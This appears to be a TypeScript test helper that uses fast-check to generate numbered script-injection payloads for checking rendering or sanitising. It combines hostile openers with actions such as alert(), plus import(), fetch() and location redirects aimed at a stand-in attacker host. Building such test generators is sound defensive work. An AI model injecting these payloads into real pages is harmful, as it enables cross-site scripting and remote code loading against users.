// Texts that try to become more than text, made of openers and actions. Each has a number of its own, so that what runs, and what shows, is known by it.
import fc from 'fast-check'
import { evil, openers } from './hostile-openers.ts'

const here = '¤'
const all = Object.values(openers).flat()

const plain = (number: string) => `h(${number})`
const actions = [
  plain,
  (number: string) => `self['h'](${number})`,
  (number: string) => `alert(${number})`,
  (number: string) => `import('//${evil}/${number}')`,
  (number: string) => `fetch('//${evil}/${number}')`,
  (number: string) => `location='//${evil}/${number}'`,
]

/** What people and tools make of white space and of accents; what reverses the order of letters is taken out of what is written. */
export const asShown = (text: string) =>
  text
    .replace(/[\u202a-\u202e\u2066-\u2069]/g, '')
    .normalize('NFC')
    .replace(/\s+/g, ' ')
    .trim()

/** The payloads of a seed: the `index`th for a place, which has a number from 1 to 99, none of them twice; no longer than `longest`. */
export const makeTexts = (seed: number) => {
  const [order = [], starts = []] =
    fc.sample(
      fc.tuple(
        fc.shuffledSubarray(all, { minLength: all.length }),
        fc.array(fc.nat(actions.length - 1), { minLength: all.length, maxLength: all.length }),
      ),
      { numRuns: 1, seed },
    )[0] ?? []
  const textOf = (index: number, place: number, longest = 200) => {
    const number = `${index}${place ? `.${place}` : ''}`
    for (let step = 0; step < order.length; step += 1) {
      const at = (index + step) % order.length
      const opener = order[at] ?? ''
      const action = actions[((starts[at] ?? 0) + Math.floor(index / order.length)) % actions.length] ?? plain
      for (const make of [action, plain]) {
        const text = opener.replaceAll(here, () => make(number))
        if ([...text].length <= longest) return text
      }
    }
    return plain(number)
  }
  return textOf
}
export type TextOf = ReturnType<typeof makeTexts>
